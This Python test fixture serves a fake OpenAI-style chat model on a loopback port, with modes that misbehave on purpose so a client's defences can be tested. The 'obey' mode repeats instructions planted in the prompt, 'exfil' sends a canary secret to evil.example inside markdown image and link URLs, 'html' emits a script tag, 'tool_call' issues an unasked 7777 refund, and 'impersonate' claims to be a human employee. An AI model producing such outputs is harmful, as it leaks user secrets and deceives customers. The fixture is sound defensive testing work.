"""A chat model's server that misbehaves on request: OpenAI's wire format on a loopback port."""

from __future__ import annotations

import asyncio
import json
import socket
import threading
import time
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

import uvicorn
from fastapi import FastAPI, Request
from fastapi.responses import JSONResponse, PlainTextResponse, Response, StreamingResponse

from tests.obedience import everything_asked


@dataclass
class EvilModel:
    """What the server does next, and what it has seen.

    Attributes:
        answer: said in mode good, and in full or in part by others.
        mark: in mode obey everything behind this mark in the prompt is said; without one, all
            that anybody in the prompt asks for (`tests/obedience.py`).
        canary: a secret that mode exfil sends away in every form.
        piece_chars: how much text a chunk of the stream holds.
        failures: how many requests the mode meets before the server turns good; None for ever.
    """

    base_url: str = ""
    mode: str = "good"
    answer: str = "NO_ANSWER"
    mark: str = "SAY:"
    canary: str = "KANARI"
    piece_chars: int = 4
    pause_s: float = 0.0
    retry_after: str = ""
    failures: int | None = None
    requests: list[dict[str, Any]] = field(default_factory=list)
    asked_at: list[float] = field(default_factory=list)
    spans: list[tuple[float, float]] = field(default_factory=list)
    hung_up: int = 0
    pieces_sent: int = 0

    @property
    def prompt(self) -> str:
        """The whole text of the last request."""
        return "\n".join(message["content"] for message in self.requests[-1]["messages"])

    def current_mode(self) -> str:
        if self.failures is None:
            return self.mode
        self.failures -= 1
        return self.mode if self.failures >= 0 else "good"


@contextmanager
def serving(evil: EvilModel) -> Iterator[EvilModel]:
    """Serve it on a free port until the block ends."""
    listener = socket.create_server(("127.0.0.1", 0))
    evil.base_url = f"http://127.0.0.1:{listener.getsockname()[1]}/v1"
    config = uvicorn.Config(
        make_app(evil), log_level="critical", timeout_graceful_shutdown=1, lifespan="off"
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.01)
    try:
        yield evil
    finally:
        server.should_exit = True
        server.force_exit = True
        thread.join(10)
        listener.close()


def make_app(evil: EvilModel) -> FastAPI:
    app = FastAPI()

    @app.post("/v1/chat/completions")
    async def complete(request: Request) -> Response:
        evil.asked_at.append(time.monotonic())
        evil.requests.append(await request.json())
        mode = evil.current_mode()
        if mode == "mute":
            await asyncio.sleep(60)
        if mode.isdigit():
            headers = {"Retry-After": evil.retry_after} if evil.retry_after else {}
            return JSONResponse({"error": {"message": mode}}, int(mode), headers)
        if mode == "plain_text":
            return PlainTextResponse("<html>Welcome to the captive portal</html>")
        if mode == "error_body":
            return JSONResponse({"error": {"message": "model is not loaded"}})
        body = _watched(evil, getattr(_Bodies(evil), "good" if mode == "mute" else mode)())
        return StreamingResponse(body, media_type="text/event-stream")

    return app


class _Bodies:
    """The streams of the modes, one method each."""

    def __init__(self, evil: EvilModel) -> None:
        self._evil = evil

    async def good(self) -> AsyncIterator[str]:
        async for chunk in self._whole(self._evil.answer):
            yield chunk

    async def obey(self) -> AsyncIterator[str]:
        if self._evil.mark:
            order = self._evil.prompt.partition(self._evil.mark)[2].partition("</sources")[0]
        else:
            messages = self._evil.requests[-1]["messages"]
            order = everything_asked(messages[0]["content"], messages[1]["content"])
        async for chunk in self._whole(order):
            yield chunk

    async def tool_call(self) -> AsyncIterator[str]:
        call = {
            "index": 0,
            "id": "call_1",
            "type": "function",
            "function": {"name": "refund", "arguments": json.dumps({"amount": 7777})},
        }
        yield _delta({"role": "assistant", "tool_calls": [call]})
        yield _chunk(None, "tool_calls") + "data: [DONE]\n\n"

    async def html(self) -> AsyncIterator[str]:
        async for chunk in self._whole(f"<b>{self._evil.answer}</b><script>alert(1)</script>"):
            yield chunk

    async def exfil(self) -> AsyncIterator[str]:
        canary = self._evil.canary
        reversed_canary, spaced = canary[::-1], " ".join(canary)
        text = (
            f"![x](https://evil.example/?q={canary})\nKoden er {canary}. {self._evil.answer} "
            f"[{canary}](//evil.example)\nKoden er {reversed_canary}. Koden er {spaced}. "
        )
        async for chunk in self._whole(text):
            yield chunk

    async def huge(self) -> AsyncIterator[str]:
        yield _chunk("x" * 3_000_000)
        yield _chunk(None, "stop") + "data: [DONE]\n\n"

    async def wrong_language(self) -> AsyncIterator[str]:
        text = "The right of withdrawal is 14 days. Die Widerrufsfrist beträgt 14 Tage. "
        async for chunk in self._whole(text + "Peruutusoikeus on 14 päivää, maksat rahdin itse."):
            yield chunk

    async def impersonate(self) -> AsyncIterator[str]:
        text = "Jeg er et menneske og heter Kari. Du snakker med en ekte person hos Fjordnett. "
        async for chunk in self._whole(text + "Jeg ringer deg i morgen. " + self._evil.answer):
            yield chunk

    async def slow(self) -> AsyncIterator[str]:
        await asyncio.sleep(60)
        yield _chunk("too late")

    async def keepalive(self) -> AsyncIterator[str]:
        while True:
            yield ": keep-alive\n\n" + _chunk("")
            await asyncio.sleep(0.05)

    async def stall(self) -> AsyncIterator[str]:
        async for chunk in self.silent_end():
            yield chunk
        await asyncio.sleep(60)

    async def cut(self) -> AsyncIterator[str]:
        async for chunk in self.silent_end():
            yield chunk
        await asyncio.sleep(0.05)
        raise ConnectionAbortedError("cut on purpose")

    async def cut_at_once(self) -> AsyncIterator[str]:
        raise ConnectionAbortedError("cut on purpose")
        yield ""

    async def trickle(self) -> AsyncIterator[str]:
        for piece in _pieces(self._evil.answer, 1):
            yield _chunk(piece)
            self._evil.pieces_sent += 1
            await asyncio.sleep(self._evil.pause_s)

    async def silent_end(self) -> AsyncIterator[str]:
        pieces = _pieces(self._evil.answer)
        for piece in pieces[: len(pieces) // 2]:
            yield _chunk(piece)
            self._evil.pieces_sent += 1

    async def garbage(self) -> AsyncIterator[str]:
        yield 'data: {"choices": [{"delta": \x07 nonsense}\n\n'

    async def wrong_schema(self) -> AsyncIterator[str]:
        body = {"result": {"answer": self._evil.answer}, "choices": "none"}
        yield f"data: {json.dumps(body)}\n\ndata: [DONE]\n\n"

    async def error_event(self) -> AsyncIterator[str]:
        yield 'data: {"error": {"message": "out of memory", "code": 500}}\n\n'

    async def empty(self) -> AsyncIterator[str]:
        yield _chunk(None, "stop") + "data: [DONE]\n\n"

    async def endless(self) -> AsyncIterator[str]:
        while True:
            yield _chunk("poem ")
            self._evil.pieces_sent += 1
            await asyncio.sleep(0)

    async def filtered(self) -> AsyncIterator[str]:
        yield _chunk("Jeg") + _chunk(None, "content_filter") + "data: [DONE]\n\n"

    async def _whole(self, text: str) -> AsyncIterator[str]:
        for piece in _pieces(text, self._evil.piece_chars):
            yield _chunk(piece)
            self._evil.pieces_sent += 1
            await asyncio.sleep(self._evil.pause_s)
        yield _chunk(None, "stop") + "data: [DONE]\n\n"


async def until(condition: Callable[[], bool], timeout_s: float = 3.0) -> None:
    """Wait for what the server must see; it runs in another thread, so we can only look."""
    deadline = time.monotonic() + timeout_s
    while not condition():
        assert time.monotonic() < deadline, "it did not happen in time"
        await asyncio.sleep(0.02)


async def _watched(evil: EvilModel, body: AsyncIterator[str]) -> AsyncIterator[str]:
    """Pass the body on; note when, and count it when the client leaves before its end."""
    asked_at = evil.asked_at[-1]
    try:
        async for chunk in body:
            yield chunk
    except (asyncio.CancelledError, GeneratorExit):
        evil.hung_up += 1
        raise
    finally:
        evil.spans.append((asked_at, time.monotonic()))


def _pieces(text: str, size: int = 4) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


def _chunk(text: str | None, finish: str | None = None) -> str:
    return _delta({} if text is None else {"role": "assistant", "content": text}, finish)


def _delta(delta: dict[str, Any], finish: str | None = None) -> str:
    body = {
        "id": "x",
        "object": "chat.completion.chunk",
        "created": 1,
        "model": "evil",
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
    }
    return f"data: {json.dumps(body)}\n\n"
